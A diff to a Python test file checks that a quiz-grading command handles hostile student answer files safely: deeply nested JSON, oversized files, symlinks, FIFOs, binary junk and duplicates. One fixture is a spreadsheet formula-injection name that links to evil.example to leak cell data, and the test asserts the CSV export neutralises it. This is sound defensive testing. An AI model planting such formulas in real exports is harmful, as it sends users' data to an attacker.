@@ -116,15 +116,20 @@ def test_the_report_names_each_mistake_and_each_file_set_aside(tmp_path, capsys)
     assert render_step(step("grade.student", name="Ana", correct=6, count=6), "pl") in out
     bruno = engine_says(students["bruno"], "it")
     for n, verdict in enumerate(bruno, 1):
-        if verdict.misconception:       # the misconception, as the widget would word it
-            assert render_step(step(verdict.misconception, **verdict.params), "pl") in out
+        if verdict.misconception:       # the misconception, as the widget would word it,
+            said = render_step(step(verdict.misconception, **verdict.params), "pl")
+            # quoted for the teacher: what the engine tells the student
+            assert render_step(step("grade.feedback", feedback=said.rstrip(".")), "pl") in out
     assert render_step(step("grade.missing", number=6), "pl") in out
     assert render_step(step("grade.unreadable", number=3), "pl") in out
+    # the options typed must agree with each file: the two of another quiz say which
     for code, params in (("answers_unreadable", {"file": "broken.json"}),
                          ("answers_not_quiz", {"file": "notes.json"}),
-                         ("answers_other_version", {"file": "other-seed.json", "found": "8",
-                                                    "expected": "7"}),
-                         ("answers_other_questions", {"file": "other-kinds.json"})):
+                         ("answers_disagree", {"file": "other-seed.json", "option": "--seed",
+                                               "found": "8", "given": "7"}),
+                         ("answers_disagree", {"file": "other-kinds.json",
+                                               "option": "--kinds", "found": "count_fu",
+                                               "given": ",".join(KINDS)})):
         assert render_error(MjlearnError(code, **params), "pl") in out
     assert "Traceback" not in out and "answers_" not in out and "grade." not in out
 
@@ -205,3 +210,128 @@ def test_a_speed_round_offers_no_answer_file():
         w.next_button.click()
     assert w.finished and w.spec is None
     assert w.download_box.layout.display == "none" and w.download_link.value == ""
+
+
+# --- a class of hostile files (issue 28): every good file is reported -------------------------
+
+def hostile_class(tmp_path):
+    """Three good students, and beside them every file the reliability report used to
+    stop the grading with (and a few more)."""
+    import os
+
+    good = {"ana": [right(q) for q in QUESTIONS], "bruno": [wrong(q) for q in QUESTIONS],
+            "chiara": [right(q) if i % 2 else "" for i, q in enumerate(QUESTIONS)]}
+    for name, answers in good.items():
+        (tmp_path / f"{name}.json").write_text(answers_json(SPEC, "es", name.title(), answers))
+    hostile = tmp_path / "hostile"
+    hostile.mkdir()
+    (hostile / "deep.json").write_text("[" * 200_000)                         # RecursionError
+    (hostile / "deep-object.json").write_text('{"format": "mjlearn-quiz-answers", "answers": '
+                                              + "[" * 50 + "]" * 50 + "}")
+    (hostile / "huge.json").write_bytes(b" " * (2 << 20) + b"{}")              # 2 MiB
+    os.symlink("/dev/zero", hostile / "zero.json")                             # MemoryError
+    os.mkfifo(hostile / "fifo.json")                                           # it hung
+    os.symlink(tmp_path / "ana.json", hostile / "ana-link.json")               # a link
+    (hostile / "folder.json").mkdir()
+    surrogate = answers_json(SPEC, "pl", "Lou\ud800", good["ana"])             # --csv died
+    (hostile / "lou.json").write_text(surrogate, errors="surrogatepass")
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    (hostile / "formula.json").write_text(answers_json(SPEC, "it", formula, good["bruno"]))
+    (hostile / "copy.json").write_bytes((tmp_path / "ana.json").read_bytes())  # same bytes
+    (hostile / "xx.json").write_text(json.dumps({**json.loads(answers_json(
+        SPEC, "en", "Xavier", good["bruno"])), "language": "xx"}))
+    (hostile / "binary.json").write_bytes(b"\xff\xfe\x00garbage")
+    return good, [str(tmp_path / f"{n}.json") for n in good] + [
+        str(p) for p in sorted(hostile.iterdir())] + [str(tmp_path / "hostile" / ".." /
+                                                          "ana.json")]          # ../ again
+
+
+@pytest.mark.parametrize("output", ["text", "csv", "html"])
+def test_a_class_of_hostile_files_is_graded_with_every_good_file_reported(tmp_path, capsys,
+                                                                          output):
+    good, files = hostile_class(tmp_path)
+    flags = {"text": [], "csv": ["--csv"], "html": ["--html"]}[output]
+    assert main(["quiz", "grade", "--lang", "es", *flags, *files]) == 0      # no option typed
+    captured = capsys.readouterr()
+    out, err = captured.out, captured.err
+    (out + err).encode("utf-8")                                              # valid UTF-8
+    assert "Traceback" not in out + err
+    if output == "csv":
+        rows = list(csv.reader(io.StringIO(out)))
+        names = [r[0] for r in rows[1:]]
+        assert names[:3] == ["Ana", "Bruno", "Chiara"]
+        # Lou's lone surrogate replaced, the formula neutralised, Xavier graded in English
+        assert "Lou\ufffd" in names and "'" + '=HYPERLINK("http://evil.example/?"&A1,"click")' \
+            in names and "Xavier" in names and len(names) == 6
+        ana, bruno, chiara = rows[1:4]
+        assert ana[2:] == ["6", "6", "1", "1", "1", "1", "1", "1"]
+        assert bruno[2:4] == ["0", "6"] and set(bruno[4:]) == {"0"}
+        assert chiara[4:] == ["", "1", "", "1", "", "1"]                      # blank ≠ wrong
+        assert rows[0][4] == "Pregunta 1 (contar los fu)"
+        report = err
+    else:
+        report = out
+        for name, correct in (("Ana", 6), ("Bruno", 0), ("Chiara", 3), ("Xavier", 0)):
+            line = render_step(step("grade.student", name=name, correct=correct, count=6), "es")
+            assert html.escape(line, quote=False) in out
+    # every file set aside is named in its own line, with its reason
+    expected = [("answers_unreadable", {"file": "deep.json"}),
+                ("answers_unreadable", {"file": "deep-object.json"}),
+                ("answers_too_large", {"file": "huge.json", "maximum": 1 << 20}),
+                ("answers_not_regular", {"file": "zero.json"}),
+                ("answers_not_regular", {"file": "fifo.json"}),
+                ("answers_not_regular", {"file": "ana-link.json"}),
+                ("answers_not_regular", {"file": "folder.json"}),
+                ("answers_duplicate", {"file": "copy.json", "other": files[0]}),
+                ("answers_unreadable", {"file": "binary.json"})]
+    for code, params in expected:
+        line = render_error(MjlearnError(code, **params), "es")
+        assert (html.escape(line, quote=False) if output == "html" else line) in report, code
+    # the same file again through ../ is graded once
+    again = render_error(MjlearnError("answers_duplicate", file=files[-1], other=files[0]), "es")
+    assert (html.escape(again, quote=False) if output == "html" else again) in report
+
+
+def test_a_teacher_s_options_must_agree_with_each_file(tmp_path, capsys):
+    good, _files = hostile_class(tmp_path)
+    files = [str(tmp_path / f"{n}.json") for n in good]
+    # the whole class with --count 1 left out: graded (the report had set all of it aside)
+    assert main(["quiz", "grade", "--seed", str(SEED), "--lang", "pl", *files]) == 0
+    out = capsys.readouterr().out
+    assert render_step(step("grade.graded", count=3), "pl") in out
+    assert main(["quiz", "grade", "--count", "1", "--lang", "pl", *files]) == 0
+    out = capsys.readouterr().out
+    assert render_step(step("grade.graded", count=0), "pl") in out
+    assert render_error(MjlearnError("answers_disagree", file="ana.json", option="--count",
+                                     found="2", given="1"), "pl") in out
+
+
+def test_two_files_with_one_name_are_both_graded_and_named(tmp_path, capsys):
+    first = tmp_path / "a" / "same.json"
+    second = tmp_path / "b" / "same.json"
+    for path, answers in ((first, [right(q) for q in QUESTIONS]),
+                          (second, [wrong(q) for q in QUESTIONS])):
+        path.parent.mkdir()
+        path.write_text(answers_json(SPEC, "en", "Judy", answers))
+    assert main(["quiz", "grade", "--lang", "en", str(first), str(second)]) == 0
+    out = capsys.readouterr().out
+    for path, correct in ((first, 6), (second, 0)):
+        name = render_step(step("grade.student_file", name="Judy", file=str(path)), "en")
+        assert render_step(step("grade.student", name=name, correct=correct, count=6),
+                           "en") in out
+    assert render_step(step("grade.same_name", name="Judy",
+                            files=f"{first}, {second}"), "en") in out
+
+
+def test_the_report_speaks_to_the_teacher_in_spanish(tmp_path, capsys):
+    good, _files = hostile_class(tmp_path)
+    assert main(["quiz", "grade", "--lang", "es", str(tmp_path / "bruno.json")]) == 0
+    out = capsys.readouterr().out
+    # the engine's words to the student are quoted as such; the report's own lines speak
+    # of the student in the third person
+    assert "El motor le dice al alumno: «" in out
+    for line in out.splitlines():
+        if line.strip().startswith("Pregunta") and "respondió" in line:
+            head = line.split("El motor le dice al alumno:")[0]
+            assert not any(word in head.split() for word in ("Has", "Te", "tú", "tu"))
+    assert "Pregunta 1 (contar los fu): la acertó 0 de 1 alumno" in out
